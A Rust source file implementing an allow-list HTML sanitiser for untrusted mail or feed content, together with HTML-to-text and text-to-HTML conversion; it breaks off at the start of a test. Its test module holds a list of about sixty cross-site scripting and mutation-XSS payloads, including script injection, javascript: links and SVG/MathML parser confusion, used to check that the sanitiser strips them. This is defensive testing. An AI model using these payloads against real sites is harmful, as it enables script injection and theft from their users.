//! The one door for HTML from outside (invariant 10), and the ways between HTML and plain text.
//!
//! Two lines of defence. First the token stream is rebuilt: only known tags and attributes, balanced, at most [`MAX_DEPTH`] deep, foreign
//! content (SVG, MathML) and raw-text elements gone. That takes away what mutation XSS needs. Then ammonia builds a real tree of it and
//! applies the same allow-list again, as a browser would read it.
//!
//! The tokeniser is ours because a browser's is quadratic in a tag's attributes (each is compared with all before it), and its tree builder
//! in the depth; ours is linear whatever comes in. Where it reads something otherwise than a browser, what is left is safe all the same.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::fmt::Write as _;
use std::sync::LazyLock;

use unicode_normalization::{UnicodeNormalization, is_nfc};
use url::Url;

/// Open elements at once; deeper tags are dropped, their text stays. Newsletters made of tables reach about 40.
const MAX_DEPTH: usize = 64;
/// Bytes of HTML read; the rest is cut off. No mail worth reading has more markup.
const MAX_INPUT: usize = 2 << 20;
/// Longest address of a link, in bytes; longer ones lose their link.
const MAX_HREF: usize = 4_096;
/// Attributes of one tag read; the rest is passed over.
const MAX_ATTRIBUTES: usize = 100;
/// Different entities looked up in one text; HTML knows 2,125.
const MAX_ENTITIES: usize = 2_200;
const REL: &str = "noopener noreferrer nofollow";

/// Takes out of foreign HTML everything that is active, loads something, tracks or restyles the page. Never fails; `""` when nothing is left.
/// Sanitising twice gives the same as once. Relative links are dropped: see [`sanitise_with_base`].
pub fn sanitise(html: &str) -> String {
    sanitise_with_base(html, None)
}

/// [`sanitise`], with relative links resolved against `base` (the item's or feed's address).
pub fn sanitise_with_base(html: &str, base: Option<&Url>) -> String {
    let mut last = pass(model::text::truncate(html, MAX_INPUT).0, base);
    // Reading a serialised tree gives the same tree only almost always (misnested tables and links); go on until it does.
    for _ in 0..4 {
        let again = pass(&last, None);
        if again == last {
            return last;
        }
        last = again;
    }
    from_text(&to_text(&last))
}

fn pass(html: &str, base: Option<&Url>) -> String {
    let mut rebuild = Rebuild { out: String::with_capacity(html.len()), open: Vec::new(), base, after_pre: false };
    run(html, &mut rebuild);
    rebuild.close_to(0);
    CLEANER.clean(&rebuild.out).to_string()
}

/// Tags that may stay. Blocks without a meaning for reading become `div`, see [`Kept::of`].
const TAGS: [&str; 45] = [
    "p",
    "br",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "s",
    "del",
    "ins",
    "sub",
    "sup",
    "small",
    "q",
    "cite",
    "kbd",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "blockquote",
    "pre",
    "code",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "a",
    "img",
    "span",
    "div",
    "figure",
    "figcaption",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = ammonia::Builder::empty();
    cleaner
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href"])),
            ("img", HashSet::from(["alt", "data-cid"])),
            ("span", HashSet::from(["title"])),
            ("ol", HashSet::from(["start"])),
            ("td", HashSet::from(["colspan", "rowspan"])),
            ("th", HashSet::from(["colspan", "rowspan"])),
        ]))
        .allowed_classes(HashMap::from([("span", HashSet::from(["img-blocked"]))]))
        .set_tag_attribute_value("a", "target", "_blank")
        .link_rel(Some(REL))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .strip_comments(true);
    cleaner
});

/// What becomes of a tag.
enum Kept {
    As(&'static str),
    Void(&'static str),
    Image,
    Dropped,
}

impl Kept {
    fn of(name: &str) -> Self {
        match name {
            "br" | "hr" => Self::Void(if name == "br" { "br" } else { "hr" }),
            "img" | "image" => Self::Image,
            "strike" => Self::As("s"),
            "tt" | "samp" | "var" => Self::As("code"),
            "dfn" | "mark" => Self::As("em"),
            "dir" | "menu" => Self::As("ul"),
            "listing" => Self::As("pre"),
            "tfoot" => Self::As("tbody"),
            "section" | "article" | "main" | "header" | "footer" | "aside" | "nav" | "address" | "center" | "fieldset" | "form"
            | "details" | "summary" | "legend" | "body" | "hgroup" | "search" => Self::As("div"),
            _ => TAGS.iter().find(|tag| **tag == name).map_or(Self::Dropped, |tag| Self::As(tag)),
        }
    }
}

fn is_cell(name: &str) -> bool {
    matches!(name, "td" | "th")
}
fn is_table_part(name: &str) -> bool {
    matches!(name, "td" | "th" | "tr" | "thead" | "tbody" | "caption" | "table")
}
fn is_block(name: &str) -> bool {
    matches!(
        name,
        "p" | "div"
            | "ul"
            | "ol"
            | "li"
            | "dl"
            | "dt"
            | "dd"
            | "blockquote"
            | "pre"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "hr"
            | "table"
            | "figure"
            | "figcaption"
    ) || is_table_part(name)
}

/// Writes the token stream again with only what may stay, every element closed.
struct Rebuild<'a> {
    out: String,
    open: Vec<&'static str>,
    base: Option<&'a Url>,
    /// A line end right after `<pre>` is not content, and would be eaten anew at every reading.
    after_pre: bool,
}

impl Rebuild<'_> {
    fn close_to(&mut self, depth: usize) {
        while self.open.len() > depth {
            if let Some(name) = self.open.pop() {
                let _ = write!(self.out, "</{name}>");
            }
        }
    }

    /// Position of the innermost open `names`, not looking out of the table (for its parts) or the cell (for everything else).
    fn innermost(&self, names: &[&str], stop: &[&str]) -> Option<usize> {
        let at = self.open.iter().rposition(|open| names.contains(open) || stop.contains(open))?;
        names.contains(&self.open[at]).then_some(at)
    }

    /// Closes what a start tag closes without saying so.
    fn imply_end(&mut self, name: &str) {
        let at = match name {
            "li" => self.innermost(&["li"], &["ul", "ol", "td", "th", "table"]),
            "dt" | "dd" => self.innermost(&["dt", "dd"], &["dl", "td", "th", "table"]),
            "td" | "th" => self.innermost(&["td", "th", "caption"], &["table"]),
            "tr" => self.innermost(&["tr", "caption"], &["table"]),
            "tbody" | "thead" => self.innermost(&["tbody", "thead", "caption"], &["table"]),
            "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => {
                self.innermost(&["h1", "h2", "h3", "h4", "h5", "h6", "p"], &["li", "div", "blockquote", "td", "th", "table"])
            }
            _ if is_block(name) => self.innermost(&["p"], &["li", "div", "blockquote", "td", "th", "table", "dd", "dt", "figure"]),
            _ => None,
        };
        if let Some(at) = at {
            self.close_to(at);
        }
    }

    fn image(&mut self, attributes: &[(&str, &str)]) {
        let get = |name: &str| attributes.iter().find(|(key, _)| *key == name).map(|(_, value)| value.trim());
        let alt = get("alt").unwrap_or_default();
        if let Some(cid) = get("src").and_then(|src| src.strip_prefix("cid:")).or_else(|| get("data-cid")) {
            let _ = write!(self.out, "<img data-cid=\"{}\" alt=\"{}\">", attribute(cid), attribute(alt));
            return;
        }
        let tiny = |name: &str| get(name).and_then(|size| size.trim_end_matches("px").parse::<u32>().ok()).is_some_and(|size| size <= 3);
        if tiny("width") || tiny("height") {
            return; // a tracking pixel: nothing to see
        }
        let host = ["src", "data-src", "data-original"]
            .into_iter()
            .filter_map(|name| resolve(self.base, get(name)?))
            .find_map(|url| url.host_str().map(str::to_owned))
            .unwrap_or_default();
        if host.is_empty() && alt.is_empty() {
            return;
        }
        let _ = write!(self.out, "<span class=\"img-blocked\" title=\"{}\">", attribute(&host));
        push_text(&mut self.out, alt);
        self.out.push_str("</span>");
    }
}

/// An absolute address of a scheme that may be linked, or nothing.
fn resolve(base: Option<&Url>, address: &str) -> Option<Url> {
    if address.len() > MAX_HREF {
        return None;
    }
    let url = match Url::parse(address) {
        Ok(url) => url,
        Err(_) => base?.join(address).ok()?,
    };
    (matches!(url.scheme(), "http" | "https" | "mailto") && url.as_str().len() <= MAX_HREF).then_some(url)
}

/// Takes the tokens of a page.
pub(crate) trait Sink {
    /// Names are lower case; the first of several attributes with one name counts.
    fn start(&mut self, name: &str, attributes: &[(&str, &str)]);
    fn end(&mut self, name: &str);
    fn text(&mut self, text: &str);
}

impl Sink for Rebuild<'_> {
    fn start(&mut self, name: &str, attributes: &[(&str, &str)]) {
        let get = |wanted: &str| attributes.iter().find(|(key, _)| *key == wanted).map(|(_, value)| *value);
        self.after_pre = false;
        let name = match Kept::of(name) {
            Kept::Dropped => return,
            Kept::Image => return self.image(attributes),
            Kept::Void(name) => {
                self.imply_end(name);
                let _ = write!(self.out, "<{name}>");
                return;
            }
            Kept::As(name) => name,
        };
        if self.open.len() >= MAX_DEPTH {
            return;
        }
        let mut extra = String::new();
        match name {
            "a" => match get("href").and_then(|href| resolve(self.base, href.trim())) {
                // A link within a link, however deep, is what tree builders tear apart.
                Some(url) if !self.open.contains(&"a") => {
                    let _ = write!(extra, " href=\"{}\"", attribute(url.as_str()));
                }
                _ => return,
            },
            "span" => {
                if get("class") != Some("img-blocked") {
                    return;
                }
                let _ = write!(extra, " class=\"img-blocked\" title=\"{}\"", attribute(get("title").unwrap_or_default()));
            }
            "ol" => number(&mut extra, "start", get("start"), 1_000_000),
            "td" | "th" => {
                number(&mut extra, "colspan", get("colspan"), 50);
                number(&mut extra, "rowspan", get("rowspan"), 50);
            }
            _ => {}
        }
        if is_table_part(name) && name != "table" && !self.open.contains(&"table") {
            self.out.push(' ');
            return;
        }
        self.imply_end(name);
        let _ = write!(self.out, "<{name}{extra}>");
        self.open.push(name);
        self.after_pre = name == "pre";
    }

    fn end(&mut self, name: &str) {
        self.after_pre = false;
        match Kept::of(name) {
            Kept::As(name) => {
                let stop: &[&str] = if name == "table" {
                    &[]
                } else if is_cell(name) || is_table_part(name) {
                    &["table"]
                } else {
                    &["td", "th", "table"]
                };
                if let Some(at) = self.innermost(&[name], stop) {
                    self.close_to(at);
                }
            }
            Kept::Void("br") => self.out.push_str("<br>"),
            _ => {}
        }
    }

    fn text(&mut self, text: &str) {
        let text = if self.after_pre { text.trim_start_matches('\n') } else { text };
        self.after_pre &= text.is_empty();
        push_text(&mut self.out, text);
    }
}

fn number(out: &mut String, name: &str, value: Option<&str>, most: u32) {
    if let Some(value) = value.and_then(|value| value.trim().parse::<u32>().ok()).filter(|value| *value <= most) {
        let _ = write!(out, " {name}=\"{value}\"");
    }
}

/// Without control characters, in NFC.
pub(crate) fn tidy(text: &str) -> Cow<'_, str> {
    let clean = if text.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\n')) {
        Cow::Owned(model::text::clean(text).replace('\r', "\n"))
    } else {
        Cow::Borrowed(text)
    };
    if is_nfc(&clean) { clean } else { Cow::Owned(clean.nfc().collect()) }
}

fn push_text(out: &mut String, text: &str) {
    // U+0338 composes with a `>` before it (≯): whoever normalises the whole later would break the tag in front.
    let text = tidy(text.trim_start_matches('\u{338}'));
    push_escaped(out, &text);
}

fn push_escaped(out: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            _ => out.push(c),
        }
    }
}

fn attribute(value: &str) -> String {
    let value = tidy(value);
    let (value, _) = model::text::truncate(&value, MAX_HREF);
    let mut out = String::with_capacity(value.len());
    push_escaped(&mut out, value);
    out
}

/// Feeds the HTML's tags and texts to `sink`; comments and what stands in raw-text elements (script, style …) are passed over.
pub(crate) fn run(html: &str, sink: &mut impl Sink) {
    let mut entities = Entities::default();
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let (before, markup) = rest.split_at(open);
        // `<` before anything but a name, `/`, `!` or `?` is text (HTML §13.2.5.6).
        let after = markup[1..].chars().next();
        match after {
            Some(c) if c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?') => {}
            _ => {
                entities.push(&rest[..open + 1], sink);
                rest = &markup[1..];
                continue;
            }
        }
        entities.push(before, sink);
        rest = if let Some(comment) = markup.strip_prefix("<!--") {
            after_comment(comment)
        } else if markup[1..].starts_with(|c: char| c.is_ascii_alphabetic()) {
            start_tag(&markup[1..], &mut entities, sink)
        } else if markup[2..].starts_with(|c: char| c.is_ascii_alphabetic()) {
            let mut tag = TagReader::new(&markup[2..]);
            tag.skip();
            if tag.complete {
                sink.end(&tag.name);
            }
            tag.rest
        } else {
            // `<!…>`, `<?…>`, `</…>`: a bogus comment
            markup.split_once('>').map_or("", |(_, rest)| rest)
        };
    }
    entities.push(rest, sink);
}

fn after_comment(comment: &str) -> &str {
    for empty in [">", "->"] {
        if let Some(rest) = comment.strip_prefix(empty) {
            return rest;
        }
    }
    comment.split_once("-->").map_or("", |(_, rest)| rest)
}

fn start_tag<'a>(text: &'a str, entities: &mut Entities, sink: &mut impl Sink) -> &'a str {
    let mut tag = TagReader::new(text);
    let mut attributes: Vec<(String, String)> = Vec::new();
    while let Some((key, value)) = tag.attribute() {
        if attributes.len() < MAX_ATTRIBUTES {
            attributes.push((key.to_ascii_lowercase(), entities.decode(value, true)));
        }
    }
    if !tag.complete {
        return "";
    }
    match tag.name.as_str() {
        raw @ ("script" | "style" | "xmp" | "iframe" | "noembed" | "noframes" | "title" | "textarea") => after_raw(tag.rest, raw),
        _ => {
            let attributes: Vec<(&str, &str)> = attributes.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
            sink.start(&tag.name, &attributes);
            tag.rest
        }
    }
}

/// What follows the end tag of a raw-text element; without one, nothing does.
fn after_raw<'a>(mut text: &'a str, name: &str) -> &'a str {
    while let Some((_, rest)) = text.split_once("</") {
        let is_end = rest.get(..name.len()).is_some_and(|head| head.eq_ignore_ascii_case(name))
            && rest[name.len()..].starts_with(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>'));
        if is_end {
            let mut tag = TagReader::new(rest);
            tag.skip();
            return tag.rest;
        }
        text = rest;
    }
    ""
}

/// Reads one tag, from its name on (HTML §13.2.5.8 to §13.2.5.40).
struct TagReader<'a> {
    name: String,
    rest: &'a str,
    /// Its `>` was found.
    complete: bool,
}

impl<'a> TagReader<'a> {
    fn new(text: &'a str) -> Self {
        let end = text.find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>')).unwrap_or(text.len());
        Self { name: text[..end].to_ascii_lowercase(), rest: &text[end..], complete: false }
    }

    fn skip(&mut self) {
        while self.attribute().is_some() {}
    }

    fn attribute(&mut self) -> Option<(&'a str, &'a str)> {
        let text = self.rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if let Some(rest) = text.strip_prefix('>') {
            (self.rest, self.complete) = (rest, true);
            return None;
        }
        // A leading `=` belongs to the name.
        let first = text.chars().next().map_or(0, char::len_utf8);
        let end = text[first..].find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>' | '=')).map_or(text.len(), |at| first + at);
        if end == 0 {
            self.rest = "";
            return None;
        }
        let (key, after) = text.split_at(end);
        let Some(value) = after.trim_start_matches(|c: char| c.is_ascii_whitespace()).strip_prefix('=') else {
            self.rest = after;
            return Some((key, ""));
        };
        let value = value.trim_start_matches(|c: char| c.is_ascii_whitespace());
        let quoted =
            ['"', '\''].into_iter().find_map(|quote| value.strip_prefix(quote).map(|inner| inner.split_once(quote).unwrap_or((inner, ""))));
        let (value, rest) =
            quoted.unwrap_or_else(|| value.split_at(value.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(value.len())));
        self.rest = rest;
        Some((key, value))
    }
}

/// Character references, each looked up once.
#[derive(Default)]
struct Entities(HashMap<String, Option<String>>);

impl Entities {
    fn push(&mut self, text: &str, sink: &mut impl Sink) {
        if !text.is_empty() {
            sink.text(&self.decode(text, false));
        }
    }

    /// `in_attribute`: without its semicolon a reference is none there (`?a=1&copy=2`).
    fn decode(&mut self, text: &str, in_attribute: bool) -> String {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(at) = rest.find('&') {
            out.push_str(&rest[..at]);
            rest = &rest[at..];
            let name = rest[1..].bytes().take(32).take_while(|b| b.is_ascii_alphanumeric() || *b == b'#').count() + 1;
            let closed = rest[name..].starts_with(';');
            let end = name + usize::from(closed);
            match (name > 1 && (closed || !in_attribute)).then(|| self.meaning(&rest[..end])).flatten() {
                Some(meant) => out.push_str(&meant),
                None => out.push_str(&rest[..end]),
            }
            rest = &rest[end..];
        }
        out.push_str(rest);
        out
    }

    fn meaning(&mut self, reference: &str) -> Option<String> {
        match reference {
            "&amp;" => return Some("&".into()),
            "&lt;" => return Some("<".into()),
            "&gt;" => return Some(">".into()),
            "&quot;" => return Some("\"".into()),
            "&nbsp;" => return Some("\u{a0}".into()),
            _ => {}
        }
        if !self.0.contains_key(reference) {
            if self.0.len() >= MAX_ENTITIES {
                return None;
            }
            self.0.insert(reference.to_owned(), look_up(reference));
        }
        self.0.get(reference).cloned().flatten()
    }
}

/// What HTML means by a character reference (`&ouml;`, `&#x27;`), read by the real parser; `None` when it is none.
pub(crate) fn look_up(reference: &str) -> Option<String> {
    let meant: String = scraper::Html::parse_fragment(reference).root_element().text().collect();
    (meant != reference).then_some(meant)
}

/// HTML as readable plain text: paragraphs and lists on their own lines, quotes marked with `> `, links by their text, pictures by theirs.
pub fn to_text(html: &str) -> String {
    let (html, _) = model::text::truncate(html, MAX_INPUT);
    let mut reader = Reader::default();
    run(html, &mut reader);
    reader.finish()
}

#[derive(Default)]
struct Reader {
    out: String,
    /// Line ends owed before the next word: 1 ends a line, 2 leaves an empty one.
    owed: usize,
    /// A space is owed before the next word.
    space: bool,
    /// Open lists: the next number of an ordered one.
    lists: Vec<Option<u32>>,
    quotes: usize,
    pre: usize,
    /// What the next line begins with: a list's mark.
    mark: Option<String>,
}

impl Reader {
    fn line(&mut self, ends: usize) {
        self.owed = self.owed.max(ends);
        self.space = false;
    }

    fn begin_line(&mut self) {
        if self.out.is_empty() {
            self.owed = 0;
            self.quote();
        }
        for left in (0..std::mem::take(&mut self.owed)).rev() {
            self.out.truncate(self.out.trim_end_matches([' ', '\t']).len());
            self.out.push('\n');
            if left == 0 {
                self.quote();
            }
        }
        if let Some(mark) = self.mark.take() {
            self.out.push_str(&mark);
        }
    }

    fn quote(&mut self) {
        for _ in 0..self.quotes.min(10) {
            self.out.push_str("> ");
        }
    }

    fn word(&mut self, word: &str) {
        let fresh = self.owed > 0 || self.out.is_empty() || self.mark.is_some();
        self.begin_line();
        if std::mem::take(&mut self.space) && !fresh {
            self.out.push(' ');
        }
        self.out.push_str(word);
    }

    fn finish(self) -> String {
        let text = self.out.lines().map(str::trim_end).collect::<Vec<_>>().join("\n");
        text.trim_matches('\n').to_owned()
    }
}

impl Sink for Reader {
    fn start(&mut self, name: &str, attributes: &[(&str, &str)]) {
        match name {
            "br" => {
                self.owed += 1;
                self.owed = self.owed.min(3);
                self.space = false;
            }
            "p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "table" | "figure" | "hr" | "dl" => self.line(2),
            "pre" | "listing" => {
                self.line(2);
                self.pre += 1;
            }
            "blockquote" => {
                self.line(2);
                // The empty line belongs outside the quote; the mark starts with its first line.
                self.quotes += 1;
            }
            "ul" | "ol" | "menu" | "dir" => {
                self.line(if self.lists.is_empty() { 2 } else { 1 });
                let first = attributes.iter().find(|(key, _)| *key == "start").and_then(|(_, value)| value.parse().ok()).unwrap_or(1);
                self.lists.push((name == "ol").then_some(first));
            }
            "li" => {
                self.line(1);
                let indent = "  ".repeat(self.lists.len().saturating_sub(1).min(8));
                self.mark = Some(match self.lists.last_mut() {
                    Some(Some(number)) => {
                        let mark = format!("{indent}{number}. ");
                        *number = number.saturating_add(1);
                        mark
                    }
                    _ => format!("{indent}- "),
                });
            }
            "td" | "th" => self.space = true,
            "img" => {
                if let Some((_, alt)) = attributes.iter().find(|(key, alt)| *key == "alt" && !alt.trim().is_empty()) {
                    self.text(alt);
                }
            }
            "tr" | "dt" | "dd" | "caption" | "figcaption" | "option" => self.line(1),
            _ => {
                if matches!(Kept::of(name), Kept::As("div")) {
                    self.line(1);
                }
            }
        }
    }

    fn end(&mut self, name: &str) {
        match name {
            "p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "table" | "figure" | "dl" => self.line(2),
            "pre" | "listing" => {
                self.line(2);
                self.pre = self.pre.saturating_sub(1);
            }
            "blockquote" => {
                self.line(2);
                self.quotes = self.quotes.saturating_sub(1);
            }
            "ul" | "ol" | "menu" | "dir" => {
                self.lists.pop();
                self.mark = None;
                self.line(if self.lists.is_empty() { 2 } else { 1 });
            }
            "li" | "tr" | "dt" | "dd" => self.line(1),
            "td" | "th" => self.space = true,
            _ => {
                if matches!(Kept::of(name), Kept::As("div")) {
                    self.line(1);
                }
            }
        }
    }

    fn text(&mut self, text: &str) {
        let text = tidy(text);
        if self.pre > 0 {
            for (place, line) in text.split('\n').enumerate() {
                if place > 0 {
                    self.owed += 1;
                }
                if !line.is_empty() {
                    self.begin_line();
                    self.out.push_str(line);
                }
            }
            return;
        }
        // Zero-width characters are newsletter padding.
        let is_space = |c: char| c.is_whitespace() || matches!(c, '\u{200b}' | '\u{feff}' | '\u{34f}');
        self.space |= text.starts_with(is_space);
        for word in text.split(is_space).filter(|word| !word.is_empty()) {
            self.word(word);
            self.space = true;
        }
        self.space = text.ends_with(is_space) || (self.space && text.trim_matches(is_space).is_empty());
    }
}

/// Plain text as HTML: paragraphs, line ends, addresses as links. Everything else is escaped.
pub fn from_text(text: &str) -> String {
    let (text, _) = model::text::truncate(text, MAX_INPUT);
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    let mut out = String::with_capacity(text.len() + 16);
    let mut open = false;
    for line in text.split('\n') {
        if line.trim().is_empty() {
            if std::mem::take(&mut open) {
                out.push_str("</p>");
            }
            continue;
        }
        out.push_str(if open { "<br>" } else { "<p>" });
        open = true;
        push_linked(&mut out, line);
    }
    if open {
        out.push_str("</p>");
    }
    pass(&out, None)
}

fn push_linked(out: &mut String, line: &str) {
    for span in linkify::LinkFinder::new().spans(line) {
        let word = span.as_str();
        let href = match span.kind() {
            Some(linkify::LinkKind::Email) => resolve(None, &format!("mailto:{word}")),
            Some(_) => resolve(None, word),
            None => None,
        };
        match href {
            Some(href) => {
                let _ = write!(out, "<a href=\"{}\">", attribute(href.as_str()));
                push_text(out, word);
                out.push_str("</a>");
            }
            None => push_text(out, word),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Reads the output as a browser would and names what must not be there.
    fn offence(html: &str) -> Option<String> {
        let tree = scraper::Html::parse_fragment(html);
        let elements = tree.root_element().descendants().skip(1).filter_map(scraper::ElementRef::wrap);
        for element in elements {
            let name = element.value().name();
            if !TAGS.contains(&name) {
                return Some(format!("<{name}>"));
            }
            for (key, value) in element.value().attrs() {
                let fine = match (name, key) {
                    ("a", "href") => ["http:", "https:", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                    ("a", "rel") => value == REL,
                    ("a", "target") => value == "_blank",
                    ("img", "alt" | "data-cid") | ("span", "title") => true,
                    ("span", "class") => value == "img-blocked",
                    ("ol", "start") | ("td" | "th", "colspan" | "rowspan") => value.bytes().all(|b| b.is_ascii_digit()),
                    _ => false,
                };
                if !fine {
                    return Some(format!("<{name} {key}={value}>"));
                }
            }
        }
        None
    }

    const HOSTILE: [&str; 62] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img srcset=\"https://evil.example/a 1x, //evil.example/b 2x\">",
        "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=x>",
        "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<a href=//evil.example>x</a>",
        "<a href=https://fine.example onclick=alert(1) style=position:fixed ping=https://evil.example>x</a>",
        "<div style=\"background:url(https://evil.example/p)\">x</div>",
        "<p style=\"behavior:url(x)\" class=btn id=logout>x</p>",
        "<style>@import url(https://evil.example/a.css);</style>",
        "<link rel=stylesheet href=https://evil.example/a.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video src=https://evil.example/v poster=https://evil.example/p autoplay></video>",
        "<audio src=https://evil.example/a onerror=alert(1)></audio>",
        "<object data=https://evil.example/x.swf></object><embed src=https://evil.example>",
        "<body background=https://evil.example/b onload=alert(1)>x",
        "<table background=https://evil.example/b><td background=https://evil.example/c>x",
        "<bgsound src=https://evil.example><isindex action=javascript:alert(1)>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?><img/src=x/onerror=alert(1)>",
        "<a href=\"https://fine.example\" href=\"javascript:alert(1)\">x</a>",
        "<p title=\"<img src=x onerror=alert(1)>\">x",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
        "<table><a href=https://a.example><tr><td><a href=https://b.example>x",
        "<plaintext><script>alert(1)",
        "<img src=cid:\"><script>alert(1)</script>\">",
        "\u{0}<scr\u{0}ipt>alert(1)</script>",
        "<b>\u{338}x</b><i>\u{338}",
        "<custom-element onclick=alert(1) is=x slot=y part=z>x</custom-element>",
    ];

    #[test]
    fn nothing_hostile_survives_and_a_second_time_changes_nothing() {
        for html in HOSTILE {
            let once = sanitise_with_base(html, Some(&Url::parse("https://blog.example/a/").unwrap()));
            assert_eq!(offence(&once), None, "{html}\n→ {once}");
            assert_eq!(sanitise(&once), once, "{html}");
        }
    }

    #[test]
    fn what_is_for_reading_stays() {
        let html = "<h2>Titel</h2><p>Ein <b>fetter</b> und <em>schräger</em> Satz,<br>zwei Zeilen.<ul><li>eins<li>zwei</ul>\
                    <blockquote>Zitat</blockquote><pre>\nfn main() {}\n</pre><a href=\"https://example.org/?a=1&amp;b=2\">Link</a>";
        assert_eq!(
            sanitise(html),
            "<h2>Titel</h2><p>Ein <b>fetter</b> und <em>schräger</em> Satz,<br>zwei Zeilen.</p><ul><li>eins</li><li>zwei</li></ul>\
             <blockquote>Zitat</blockquote><pre>fn main() {}\n</pre>\
             <a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">Link</a>"
        );
    }

    #[test]
    fn pictures_are_named_but_never_load() {
        assert_eq!(
            sanitise("<img src=\"https://cdn.example/x.png\" alt=\"Ein Hund\" class=big>"),
            "<span class=\"img-blocked\" title=\"cdn.example\">Ein Hund</span>"
        );
        assert_eq!(sanitise("<img src=\"cid:logo@mail\" alt=Logo>"), "<img data-cid=\"logo@mail\" alt=\"Logo\">");
        assert_eq!(sanitise("<img src=\"https://track.example/o.gif?id=7\" width=1 height=1>"), "");
        assert_eq!(sanitise("<img src=\"data:image/png;base64,AAAA\" alt=Bild>"), "<span class=\"img-blocked\" title=\"\">Bild</span>");
    }

    #[test]
    fn relative_links_need_a_base() {
        assert_eq!(sanitise("<a href=/b>x</a>"), "x");
        let base = Url::parse("https://blog.example/a/post").unwrap();
        assert!(sanitise_with_base("<a href=../b>x</a>", Some(&base)).contains("href=\"https://blog.example/b\""));
    }

    #[test]
    fn tables_of_newsletters_keep_their_cells() {
        assert_eq!(
            sanitise("<table border=1 width=600><tr><td colspan=2 bgcolor=red>a<td>b<tr><td>c</table>"),
            "<table><tbody><tr><td colspan=\"2\">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>"
        );
    }

    #[test]
    fn a_hundred_thousand_nested_tags_are_flattened() {
        for tag in ["div", "b", "blockquote", "table><tr><td", "ul><li", "a href=http://x", "font", "svg", "p", "span", "dd", "button"] {
            let html = format!("<{tag}>").repeat(100_000) + "x";
            let clean = sanitise(&html);
            assert!(clean.contains('x'), "{tag}");
            assert!(clean.len() < 9_000_000, "{tag}: {}", clean.len());
            assert!(to_text(&html).ends_with('x'), "{tag}");
            let mut depth = 0_i64;
            for (at, _) in clean.match_indices('<') {
                depth += if clean[at..].starts_with("</") { -1 } else { 1 };
                assert!(depth <= 2 * MAX_DEPTH as i64, "{tag}");
            }
        }
    }

    #[test]
